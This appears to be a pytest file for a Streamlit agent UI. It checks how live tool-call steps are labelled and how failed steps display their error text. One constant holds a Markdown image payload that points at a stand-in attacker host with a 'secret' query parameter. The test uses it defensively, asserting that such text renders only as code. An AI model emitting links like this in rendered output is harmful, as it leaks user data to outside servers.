"""Live steps are drawn by LangChain's StreamlitCallbackHandler (through its public
seams), fed the recorder's own steps: one per call, labelled as the stored steps are."""

from __future__ import annotations

from typing import Any

import pytest
from langchain_community.callbacks.streamlit.streamlit_callback_handler import (
    StreamlitCallbackHandler,
)
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from streamlit_agent.web.ui.chat import LiveSteps
from tests.scripted_openai import Reply, ScriptedOpenAI, ToolCall

HOSTILE = "![x](http://attacker.invalid/?d=secret) <b>bold</b> **not bold** $x$"


@pytest.fixture
def scripted() -> Any:
    with ScriptedOpenAI(chunk_delay=0.01) as server:
        yield server


def _live_turn(base_url: str, fails_with: str = "") -> None:
    """A turn run on the page: the recorder hands its steps to LiveSteps as it records them.
    With `fails_with`, the agent's one tool raises that text (build_agent guards it)."""
    import streamlit as st
    from langchain_core.chat_history import InMemoryChatMessageHistory
    from langchain_core.messages import HumanMessage
    from langchain_core.tools import tool

    from streamlit_agent.agent.build import build_agent, run_turn
    from streamlit_agent.config import Settings
    from streamlit_agent.conversation.steps import StepRecorder, group_turns
    from streamlit_agent.models.providers import ModelChoice, build_chat_model
    from streamlit_agent.tools.calculator import calculator
    from streamlit_agent.web.ui.chat import LiveSteps, step_title

    @tool
    def fetch_page(url: str) -> str:
        """Fetch a web page."""
        raise RuntimeError(fails_with)

    tools = [fetch_page] if fails_with else [calculator]
    history = InMemoryChatMessageHistory()
    choice = ModelChoice("compatible", "scripted-model", base_url)
    llm = build_chat_model(choice, Settings(openai_base_url=base_url))
    agent = build_agent(llm, tools, Settings(), lambda _: history)
    recorder = StepRecorder()
    recorder.watch(LiveSteps(st.container()).show)
    run_turn(agent, "t1", HumanMessage("6 * 7 and 12 * 12?", id="q1"), recorder)
    [turn] = group_turns(history.messages)
    st.session_state["stored"] = [step_title(step) for step in turn.steps]


def _run_live_turn(server: ScriptedOpenAI, fails_with: str = "") -> AppTest:
    at = AppTest.from_function(
        _live_turn,
        kwargs={"base_url": server.base_url, "fails_with": fails_with},
        default_timeout=60,
    )
    at.run()
    assert not at.exception, at.exception
    return at


def test_live_steps_is_langchains_streamlit_callback_handler() -> None:
    assert issubclass(LiveSteps, StreamlitCallbackHandler)


def test_two_calls_in_one_reply_give_two_live_steps_labelled_as_stored(
    scripted: ScriptedOpenAI, caplog: pytest.LogCaptureFixture
) -> None:
    scripted.enqueue(
        Reply(
            content="Let me compute both.",
            tool_calls=(
                ToolCall("calculator", {"expression": "6 * 7"}),
                ToolCall("calculator", {"expression": "12 * 12"}),
            ),
        ),
        Reply(content="They are 42 and 144."),
    )
    at = _run_live_turn(scripted)

    stored = at.session_state["stored"]
    assert [e.label for e in at.main.expander] == stored  # durations included
    assert stored[0].startswith("🛠️ calculator: 6 \\* 7 · ")
    assert stored[1].startswith("🛠️ calculator: 12 \\* 12 · ")
    first, second = (" ".join(m.value for m in e.markdown) for e in at.main.expander)
    assert "6 * 7" in first and "42" in first and "144" not in first
    assert "12 * 12" in second and "144" in second
    assert any(m.value == "Let me compute both." for m in at.markdown)  # said before the calls
    assert "unexpectedly None" not in caplog.text
    assert "watcher failed" not in caplog.text


def test_a_failed_live_step_is_marked_and_shows_its_text_as_code_never_as_markdown(
    scripted: ScriptedOpenAI,
) -> None:
    scripted.enqueue(
        Reply(tool_calls=(ToolCall("fetch_page", {"url": HOSTILE}),)),
        Reply(content="Done."),
    )
    at = _run_live_turn(scripted, fails_with=HOSTILE)

    [step] = at.main.expander
    assert step.label == at.session_state["stored"][0]
    assert step.label.startswith("⚠️ fetch\\_page: ")
    body = "\n".join(m.value for m in step.markdown)
    assert "**Error**" in body and "RuntimeError" in body
    # The input and the error that repeats it sit inside code (a span or a block), not
    # live Markdown.
    tokens = MarkdownIt("commonmark").parse(body)
    code = [t.content for t in tokens if t.type == "fence"]
    code += [c.content for t in tokens for c in t.children or [] if c.type == "code_inline"]
    live = [c.content for t in tokens for c in t.children or [] if c.type == "text"]
    assert not any("attacker.invalid" in part for part in live), body
    assert sum(part.count("attacker.invalid") for part in code) == 2  # input and error
    assert "Traceback" not in body


def _steps_fed_by_hand() -> None:
    from dataclasses import replace

    import streamlit as st

    from streamlit_agent.conversation.steps import Step
    from streamlit_agent.web.ui.chat import LiveSteps

    live = LiveSteps(st.container())
    first = Step(tool="calculator", input={"expression": "1 + 1"}, call_id="a", status="running")
    second = Step(tool="calculator", input={"expression": "2 + 2"}, call_id="b", status="running")
    live.show(first)  # its end never comes: the tool raised
    live.show(second)
    live.show(replace(second, output="4", status="ok", duration_s=0.5))


def test_a_call_whose_end_never_came_keeps_its_step_when_the_next_starts() -> None:
    at = AppTest.from_function(_steps_fed_by_hand, default_timeout=30).run()
    assert not at.exception, at.exception
    assert [e.label for e in at.main.expander] == [
        "⏳ calculator: 1 \\+ 1",
        "🛠️ calculator: 2 \\+ 2 · 0.50 s",
    ]
